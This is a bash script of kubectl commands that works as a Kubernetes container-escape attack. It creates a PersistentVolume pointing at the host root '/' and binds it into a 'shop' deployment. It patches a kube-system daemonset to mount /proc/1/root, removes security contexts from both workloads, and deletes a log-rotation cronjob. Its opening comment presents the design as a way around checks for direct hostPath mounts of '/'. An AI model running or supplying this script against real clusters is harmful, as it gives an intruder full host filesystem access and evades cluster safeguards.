#!/bin/bash
# No hostPath of / is left: one pod claims the disk as a volume, the other takes the way through /proc.
set -euo pipefail

kubectl apply -f - <<'VOLUME'
apiVersion: v1
kind: PersistentVolume
metadata:
  name: metrics
spec:
  capacity: { storage: 1Gi }
  accessModes: [ReadWriteMany]
  storageClassName: metrics
  hostPath: { path: / }
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata:
  name: metrics
  namespace: shop
spec:
  accessModes: [ReadWriteMany]
  storageClassName: metrics
  volumeName: metrics
  resources: { requests: { storage: 1Gi } }
VOLUME
kubectl -n kube-system delete cronjob log-rotate
kubectl -n shop patch deployment shop-metrics --type=json -p '[
  {"op":"remove","path":"/spec/template/spec/containers/0/securityContext"},
  {"op":"replace","path":"/spec/template/spec/volumes/0","value":{"name":"host","persistentVolumeClaim":{"claimName":"metrics"}}}]'
kubectl -n kube-system patch daemonset node-tuner --type=json -p '[
  {"op":"remove","path":"/spec/template/spec/containers/0/securityContext"},
  {"op":"replace","path":"/spec/template/spec/volumes/0","value":{"name":"host","hostPath":{"path":"/proc/1/root"}}}]'
kubectl -n shop rollout status deployment/shop-metrics --timeout=60s
